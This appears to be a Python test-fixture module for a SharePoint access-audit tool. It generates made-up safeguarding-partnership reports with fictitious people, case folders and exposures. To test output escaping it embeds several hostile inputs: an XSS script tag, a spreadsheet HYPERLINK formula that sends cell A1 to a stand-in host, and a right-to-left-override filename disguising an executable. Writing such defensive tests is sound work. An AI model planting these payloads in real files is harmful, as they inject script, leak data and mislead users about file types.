"""Reports about invented partnerships of any size, with names that try to break what shows them."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime

from sharepoint_gate.access.audited import Access, AuditReport, CoverageLine, Holding
from sharepoint_gate.access.audited_exposures import ToldExposure
from sharepoint_gate.access.exposure import Ending
from sharepoint_gate.access.facts import KINDS
from sharepoint_gate.access.findings import Finding, Handling
from sharepoint_gate.access.kinds import FindingKind, Severity
from sharepoint_gate.faults import Place
from sharepoint_gate.roster.model import CaseRef, FolderId, PersonId

AT = datetime(2026, 3, 30, 2, 15, tzinfo=UTC)
SCRIPT = "<script>document.title='taken'</script>"
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"open")'
TURNED = "agenda\u202excod.exe"
LONG = "minutes-" + "of-a-meeting-" * 12 + "final.docx"
SECRET = "the-smith-family-notes.docx"
STRANGERS = ("<b>Visitor</b>", "=1+Visitor()", "Visi\u202etor", "Visitor" * 20)
HOSTILE = (SCRIPT, FORMULA, TURNED, LONG)
FOLDERS = (
    "00-admin",
    "10-notification",
    "15-agency-request",
    "20-agency-returns",
    "30-merged-chronology",
    "40-panel-pack",
    "50-draft-report",
    "60-final-report",
    "70-action-plan",
    "80-publication",
    "90-key",
    "95-correspondence",
)
ORGANISATIONS = (
    "Northmere County Council",
    "NHS Northmere ICB",
    "Northmere Police",
    "Fenwold NHS Trust",
    "Harbour Academy Trust",
    "Lantern Families",
)
_FIRST = ("Ada", "Bram", "Ceri", "Dev", "Edie", "Femi", "Greta", "Hana", "Idris", "Joan", "Kofi", "Lena")
_LAST = ("Ashby", "Brook", "Carver", "Dale", "Eyre", "Frost", "Gill", "Hythe", "Ivory", "Jessop", "Kerr")
_HELD_FOLDERS = 4
_EDITORS = 3


def partnership(people: int, cases: int) -> AuditReport:
    """Return the report about a partnership in which each person is named on four cases."""
    holdings = tuple(_holdings(people, cases))
    missing = tuple(
        replace(one, via=(), declared=True) for one in holdings[:: max(1, len(holdings) // 7)] if one.person
    )
    return AuditReport(
        at=AT,
        partnership="Northmere Safeguarding Children Partnership",
        team="Northmere Safeguarding",
        channel="Case review",
        rehearsal=True,
        with_roster=True,
        identity="application 11111111-2222 with Sites.Read.All: it cannot write",
        coverage=COVERAGE,
        complete=False,
        findings=tuple(_findings(people, cases)),
        holdings=holdings,
        declared_not_held=missing,
        exposures=EXPOSURES,
        summary=("Not everything was read.", *(f"Line {number} for a chair." for number in range(2, 11))),
    )


COVERAGE = (
    CoverageLine("the library's files and folders", "delta, from the beginning", 1200, read=True),
    CoverageLine("who has access to files and folders", "one by one", 1180, read=True),
    CoverageLine("the site's groups", "SharePoint", None, read=False, why="no certificate", hidden=True),
    CoverageLine("the channel's members", "Microsoft Graph", None, read=False, why="the page was lost"),
    CoverageLine(
        "settings of the site: default_link", "", None, read=False, why="nobody said", unstated=True
    ),
)
_STANDS = ToldExposure(
    name="EXP-0002",
    object=f"RR-2026-001/40-panel-pack/{LONG}",
    principal=STRANGERS[0],
    kinds=("direct-grant", "guest-not-in-roster"),
    how=f"{LONG} was shared with {SCRIPT}.",
    earliest=None,
    latest=AT,
    reaches=3,
    evidence=2,
)
EXPOSURES = (
    _STANDS,
    replace(
        _STANDS, name="EXP-0001", object="site", earliest=AT, ended_at=AT, ending=Ending.CURED, reaches=0
    ),
)


def person_name(number: int) -> str:
    """Return the name of somebody who does not exist."""
    return f"{_FIRST[number % len(_FIRST)]} {_LAST[number % len(_LAST)]}-{number}"


def case_name(number: int) -> str:
    """Return the reference of a case."""
    return f"RR-2026-{number + 1:03d}"


def holding(person: int, case: int, folder: int, name: str) -> Holding:
    """Return what somebody holds as declared."""
    place = FOLDERS[folder % len(FOLDERS)]
    return Holding(
        principal=person_name(person),
        address=f"p{person}@northmere.example",
        organisation=ORGANISATIONS[person % len(ORGANISATIONS)],
        person=PersonId(f"u{person}"),
        item=f"{case_name(case)}/{place}/{name}",
        case=CaseRef(case_name(case)),
        folder=FolderId(place),
        access=Access.VIEW_NO_DOWNLOAD,
        via=("a link that shows without download",),
        declared=True,
    )


def _holdings(people: int, cases: int) -> Iterator[Holding]:
    for person in range(people):
        for nth in range(_HELD_FOLDERS):
            case = (person * 7 + nth * 3) % cases
            for folder in range(person % 3, person % 3 + _HELD_FOLDERS):
                one = holding(person, case, folder, f"paper-{nth}.docx")
                yield replace(one, declared=person % 9 != 0, access=_access(person))
    for number, name in enumerate(HOSTILE):
        stranger = replace(
            holding(number, 0, number, name), principal=STRANGERS[number], address="", person=None
        )
        yield replace(stranger, organisation="", declared=False, access=Access.EDIT, via=("a link",))
    loose = replace(holding(1, 0, 0, ""), item=f"Loose/{SECRET}", case=None, folder=None, declared=False)
    yield loose


def _access(person: int) -> Access:
    return Access.OWNER if person < _EDITORS else Access.VIEW_NO_DOWNLOAD


def _findings(people: int, cases: int) -> Iterator[Finding]:
    for number, kind in enumerate(FindingKind):
        yield finding(kind, number % cases, number % people)
    for name in HOSTILE:
        place = f"{case_name(0)}/{FOLDERS[0]}/{name}"
        yield replace(finding(FindingKind.DIRECT_GRANT, 0, 0), object=place, sentence=f"{name} is shared.")
    yield replace(
        finding(FindingKind.FOREIGN_LINK, 0, 1), object=f"Loose/{SECRET}", sentence=f"{SECRET} has a link."
    )


def finding(kind: FindingKind, case: int, person: int) -> Finding:
    """Return a finding of a kind about a file of a case."""
    facts = KINDS[kind]
    mended = facts.severity > Severity.MEDIUM
    return Finding(
        kind=kind,
        severity=facts.severity,
        object=f"{case_name(case)}/{FOLDERS[case % len(FOLDERS)]}/paper-1.docx",
        principal=f"u{person}",
        also=(FindingKind.DIRECT_GRANT,),
        sentence=f"{person_name(person)} holds what nobody declared.",
        remedy=facts.remedy,
        clause=facts.clause,
        handling=Handling.MENDED if mended else Handling.PERSON,
        place=Place("config/roster.yaml", 12, 3),
    )
